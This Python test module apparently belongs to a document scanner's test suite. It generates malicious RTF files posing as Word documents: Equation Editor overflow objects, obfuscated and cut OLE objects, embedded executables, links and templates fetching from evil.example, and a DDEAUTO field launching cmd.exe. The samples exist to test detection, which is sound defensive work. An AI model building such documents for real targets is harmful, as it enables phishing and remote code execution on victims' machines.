"""RTF with objects, and with the shapes of exploits; most of it under the name .doc."""

from __future__ import annotations

import struct
from collections.abc import Callable

from tests.attacks.attack import Attack
from tests.attacks.ole import PROGRAM, URL_MONIKER
from tests.attacks.ole_builder import EQUATION, OVERLONG_FONT, compound, equation, native

EXPECT = frozenset({"active_content", "allowed_format"})
HEAD = "{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times New Roman;}}\\pard So: 955/SGTVT-VP\\par "
HEX_WIDTH = 128
_CALC = 'c:\\\\\\\\windows\\\\\\\\cmd.exe "/k calc"'


def ole1(class_name: str, data: bytes, *, kind: int = 2) -> bytes:
    """An object of OLE 1 ([MS-OLEDS] 2.2.5)."""
    name = class_name.encode() + b"\0"
    return struct.pack("<III", 0x501, kind, len(name)) + name + struct.pack("<III", 0, 0, len(data)) + data


def _object(data: bytes, *, class_name: str = "Word.Document.8", more: str = "\\objemb") -> bytes:
    digits = data.hex()
    lines = "\n".join(digits[place : place + HEX_WIDTH] for place in range(0, len(digits), HEX_WIDTH))
    return f"{HEAD}{{\\object{more}{{\\*\\objclass {class_name}}}{{\\*\\objdata {lines}\n}}}}}}".encode()


def _equation() -> bytes:
    return compound({"Equation Native": equation(OVERLONG_FONT)}, {"": EQUATION})


def _obfuscated() -> bytes:
    digits = ole1("Equation.3", _equation()).hex()
    woven = "".join(f"{digits[place : place + 8]}{{\\*\\a{place}}}\\par " for place in range(0, 400, 8)) + digits[400:]
    return f"{HEAD}{{\\object\\objemb{{\\*\\objdata {woven}}}}}}}".encode()


def _package(name: str, content: bytes) -> bytes:
    return ole1("Package", native(name, content)[4:])


def _unicode_template() -> bytes:
    letters = "".join(f"\\u{ord(letter)}?" for letter in "http://evil.example/a.dotm")
    return f"{HEAD}{{\\*\\template {letters}}}}}".encode()


def _linked() -> bytes:
    ole = b"\x01\x00\x00\x02\x09" + bytes(11) + URL_MONIKER + "http://evil.example/a.hta".encode("utf-16-le")
    return _object(
        ole1("OLE2Link", compound({"\x01Ole": ole})), class_name="Word.Document.8", more="\\objautlink\\objupdate"
    )


def _attack(name: str, make: Callable[[], bytes], file_name: str = "cong van.doc") -> Attack:
    return Attack(name, "rtf", file_name, "application/msword", make, EXPECT)


ATTACKS: tuple[Attack, ...] = (
    _attack("rtf-equation", lambda: _object(ole1("Equation.3", _equation()))),
    _attack("rtf-equation-class-in-mixed-case", lambda: _object(ole1("eQuATioN.3", b"\x1c\0\0\0" + OVERLONG_FONT))),
    _attack("rtf-equation-obfuscated", _obfuscated),
    _attack("rtf-object-that-updates", lambda: _object(ole1("Excel.Sheet.8", b"abc"), more="\\objemb\\objupdate")),
    _attack("rtf-package-with-program", lambda: _object(_package("bao cao.exe", PROGRAM))),
    _attack("rtf-package-of-any-file", lambda: _object(_package("bao cao.txt", b"abc")), "cong van.rtf"),
    _attack("rtf-object-linked-to-address", _linked),
    _attack("rtf-object-cut", lambda: _object(ole1("Word.Document.8", b"abc" * 50)[:60])),
    _attack("rtf-template-from-web", f"{HEAD}{{\\*\\template http://evil.example/a.dotm}}}}".encode),
    _attack("rtf-template-in-unicode", _unicode_template),
    _attack("rtf-header-without-version", lambda: b"{\\rt\\ansi So 955\\par}"),
    _attack("rtf-header-with-other-letters", lambda: b"{\\rtA1\\ansi So 955\\par}"),
    _attack(
        "rtf-list-overrides",
        f"{HEAD}{{\\*\\listoverridetable{{\\listoverride\\listid1\\listoverridecount25\\ls1}}}}}}".encode,
    ),
    _attack(
        "rtf-fragments",
        f"{HEAD}{{\\shp{{\\*\\shpinst{{\\sp{{\\sn pFragments}}{{\\sv 1;1;{'41' * 200}}}}}}}}}}}".encode,
    ),
    _attack(
        "rtf-fonts-without-end",
        ("{\\rtf1{\\fonttbl" + "".join(f"{{\\f{number} A;}}" for number in range(33_000)) + "}}").encode,
    ),
    _attack("rtf-dde-field", f"{HEAD}{{\\field{{\\*\\fldinst DDEAUTO {_CALC}}}{{\\fldrslt x}}}}}}".encode),
)
